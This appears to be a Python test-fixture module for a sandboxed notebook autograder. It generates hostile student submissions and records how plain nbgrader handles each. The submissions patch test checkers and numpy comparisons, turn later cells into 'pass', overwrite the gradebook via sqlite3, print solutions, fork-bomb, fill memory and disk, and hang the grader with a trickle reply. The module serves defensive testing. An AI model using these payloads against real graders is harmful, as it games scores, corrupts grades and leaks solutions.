"""Hostile sample submissions, generated from the current release and the source's solutions.

Each sample is the solution with one answer cell turned into an attack (often on top of a wrong
answer); its expected score follows from the points of the test cells that read the attacked
function. What plain nbgrader 0.9.6 does with each (measured) is in the docstring of each builder;
the sandboxed grader must score them exactly as expected, flag the anomalies, and leave the
gradebook, the solutions and the other students untouched.
"""
from __future__ import annotations

import ast
import copy
import re
import textwrap

from coursegrader import nbutil
from coursegrader.samples import Sample, answers, fill, test_points

NOOP_CHECKS = ("check_gradient", "check_jacobian", "check_vjp", "check_jvp", "check_hessian", "check_hvp",
               "assert_gradient", "assert_jacobian", "assert_vjp", "assert_jvp", "assert_hessian", "assert_hvp")


def _defined_function(code: str) -> str | None:
    try:
        tree = ast.parse(code)
    except SyntaxError:
        return None
    names = [n.name for n in tree.body if isinstance(n, ast.FunctionDef)]
    return names[0] if len(names) == 1 else None


def _wrong(fn: str) -> str:
    """Make the answer wrong without knowing the maths: negate whatever it returns."""
    return textwrap.dedent(f"""
        _right_{fn} = {fn}
        def {fn}(*args, **kwargs):
            return -_right_{fn}(*args, **kwargs)
        """)


def _replace_body(fn: str, body: str) -> str:
    return f"def {fn}(*args, **kwargs):\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n"


def _attacks(fn: str, db_path: str, solutions_path: str) -> dict:
    """name -> (code appended to / replacing the answer, replaces?, answer lost?, note)."""
    checks = "\n".join(f"gc.{c} = _noop" for c in NOOP_CHECKS)
    return {
        "patch_checker": (_wrong(fn) + f"import gradcheck as gc\n_noop = lambda *a, **k: None\n{checks}\n",
                          False, True, "wrong answer + gradcheck's checks replaced by no-ops (nbgrader: full marks)"),
        "patch_allclose": (_wrong(fn) + "import numpy as np\nnp.testing.assert_allclose = lambda *a, **k: None\n"
                           "np.testing.assert_array_equal = lambda *a, **k: None\n"
                           "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: True\n",
                           False, True, "wrong answer + numpy's comparisons patched (nbgrader: full marks)"),
        "input_transformer": (_wrong(fn) + "get_ipython().input_transformers_cleanup.append("
                              "lambda lines: ['pass\\n'])\n", False, True,
                              "wrong answer + every later cell turned into `pass` (nbgrader: full marks)"),
        "swallow_errors": (_wrong(fn) + "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
                           "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n", False, True,
                           "wrong answer + showtraceback / set_custom_exc swallowing errors (nbgrader: 0)"),
        "write_gradebook": (textwrap.dedent(f"""
            import sqlite3
            for _p in [{db_path!r}, "../../gradebook.db", "../../../grading/gradebook.db", "gradebook.db"]:
                try:
                    _c = sqlite3.connect("file:" + _p + "?mode=rw", uri=True)
                    _c.execute("UPDATE grade SET manual_score = 99")
                    _c.commit()
                    print("wrote", _p)
                except Exception as _e:
                    print("cannot write", _p, type(_e).__name__)
            """), False, False, "writes the gradebook with sqlite3 (nbgrader: exported 198/5)"),
        "read_secrets": (textwrap.dedent(f"""
            for _p in [{solutions_path!r}, {db_path!r}]:
                try:
                    print(open(_p, "rb").read()[:100000])
                except Exception as _e:
                    print("cannot read", _p, type(_e).__name__)
            """), False, False, "reads solutions/ and the gradebook and prints them (nbgrader: leaked)"),
        "os_exit": ("import os\nos._exit(0)\n", False, True,
                    "os._exit(0) in the answer cell (nbgrader: student dropped, rc = 1)"),
        "loop_in_function": (_replace_body(fn, "while True:\n    pass"), True, True,
                             "infinite loop in the graded function (nbgrader: bounded by the timeout)"),
        "loop_top_level": ("while True:\n    pass\n", False, False,
                           "infinite loop at top level after a correct def (nbgrader: full marks, slow)"),
        "sigint_ignored": ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
                           False, True, "SIGINT ignored, then an infinite loop (nbgrader: bounded)"),
        "memory_bomb": (_replace_body(fn, "hog = []\nwhile True:\n    hog.append(bytearray(2**27))"), True, True,
                        "the graded function allocates until memory runs out (nbgrader: no limit)"),
        "fork_bomb": (_replace_body(fn, "import os\nwhile True:\n    os.fork()"), True, True,
                      "the graded function forks without end (nbgrader: no limit)"),
        "trickle_reply": (_replace_body(fn, """
            import struct, sys, threading, time
            if threading.current_thread().name != "sg-agent":
                return None
            f = sys._getframe()
            while f is not None and "conn" not in f.f_locals:   # the agent's connection to the grader
                f = f.f_back
            conn = f.f_locals["conn"]
            def trickle():   # a reply "of 1 MB", one byte a second: a per-recv timeout never fires
                conn.sendall(struct.pack("!Q", 10**6))
                while True:
                    conn.sendall(b" ")
                    time.sleep(1)
            threading.Thread(target=trickle, daemon=True).start()
            time.sleep(3600)
            """), True, True, "the graded call answers one byte a second (main: hung for ever)"),
        "memory_fanout": (_replace_body(fn, """
            import os, threading
            if threading.current_thread().name != "sg-agent":
                return None
            kids = []
            for _ in range(4):   # each under the per-process limit, held for ever: 4 x 1.5 GB in main
                pid = os.fork()
                if pid == 0:
                    hog = b"x" * (1536 * 2**20)
                    os.read(os.pipe()[0], 1)
                    os._exit(0)
                kids.append(pid)
            for pid in kids:
                os.waitpid(pid, 0)
            """), True, True, "four forked children fill 1.5 GB each (main: 6.2 GiB resident, no flag)"),
        "cpu_fanout": (_replace_body(fn, """
            import os, threading
            if threading.current_thread().name == "sg-agent":
                for _ in range(30):   # busy children left behind when the call returns
                    if os.fork() == 0:
                        while True:
                            pass
            return None
            """), True, True, "the graded call leaves 30 busy children (main: 40 ran 10 min unflagged)"),
        "disk_fill": (_replace_body(fn, """
            for k in range(48):   # 1.5 GB in 32 MiB files (each under the file size limit)
                with open(f"fill{k}.bin", "wb") as fh:
                    for _ in range(32):
                        fh.write(b"x" * 2**20)
            """), True, True, "writes 1.5 GB into its home (main: host disk, 2.7 s)"),
        "huge_reply": (_replace_body(fn, "return 'x' * (60 * 2**20)"), True, True,
                       "the graded function returns 60 MiB (main: 1.45 GB and 9 s in the grader)"),
        "print_flood": (f"_quiet_{fn} = {fn}\n" + _replace_body(
                            fn, f"for i in range(10**6):\n    print(i)\nreturn _quiet_{fn}(*args, **kwargs)"),
                        False, True, "the graded function prints 1M lines (nbgrader: 0, 70 s)"),
    }


def _readers(source_nb: dict, fn: str) -> list[str]:
    """grade_ids of the test cells that read the function ``fn``."""
    word = re.compile(rf"\b{re.escape(fn)}\b")
    return [nbutil.grade_id(c) for c in source_nb["cells"] if nbutil.is_test(c) and word.search(nbutil.src(c))]


def build(assignment: str, source_nb: dict, release_nb: dict, nb_name: str, *, db_path: str,
          solutions_path: str) -> list[Sample]:
    """Hostile samples for one single-notebook assignment (the first answer defining one function is attacked)."""
    filled = answers(source_nb)
    pts = test_points(source_nb)
    total = sum(pts.values())
    order = [nbutil.grade_id(c) for c in source_nb["cells"] if nbutil.is_solution(c) and c.get("cell_type") == "code"]
    target = next(g for g in order if _defined_function(filled[g]) and _readers(source_nb, _defined_function(filled[g])))
    last = next(g for g in reversed(order) if _defined_function(filled[g]) and
                _readers(source_nb, _defined_function(filled[g])))
    out = []
    for name, (code, replaces, lost, note) in _attacks("FN", db_path, solutions_path).items():
        gid = last if name == "input_transformer" else target   # it disables every later cell
        fn = _defined_function(filled[gid])
        code = _attacks(fn, db_path, solutions_path)[name][0]
        changed = dict(filled)
        changed[gid] = code if replaces else filled[gid].rstrip("\n") + "\n" + code
        breaks = sorted(set(_readers(source_nb, fn))) if lost else []
        out.append(Sample(assignment, f"hostile_{name}", {nb_name: fill(release_nb, changed)},
                          total - sum(pts[b] for b in breaks), breaks, note))
    # the test cells themselves: deleted, metadata stripped, edited, points changed -> restored and run
    nb = fill(release_nb, filled)
    tests = [i for i, c in enumerate(nb["cells"]) if nbutil.is_test(c)]
    if len(tests) >= 4:
        edited = copy.deepcopy(nb)
        edited["cells"][tests[1]]["metadata"].pop("nbgrader", None)
        edited["cells"][tests[2]]["source"] = "pass  # the test, edited away"
        edited["cells"][tests[3]]["metadata"]["nbgrader"]["points"] = 100
        del edited["cells"][tests[0]]
        out.append(Sample(assignment, "hostile_test_cells", {nb_name: edited}, total, [],
                          "test cells deleted, metadata stripped, edited, points changed (restored and run)"))
    return out
